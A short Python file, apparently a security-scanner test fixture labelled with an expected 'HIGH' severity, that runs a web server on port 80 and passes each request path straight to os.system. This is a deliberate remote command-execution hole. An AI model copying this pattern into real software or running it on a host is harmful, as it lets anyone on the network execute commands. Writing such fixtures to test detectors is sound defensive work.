# expect: HIGH
from http.server import BaseHTTPRequestHandler, HTTPServer
import os
class H(BaseHTTPRequestHandler):
    def do_GET(self):
        os.system(self.path[1:])
HTTPServer(("", 80), H).serve_forever()
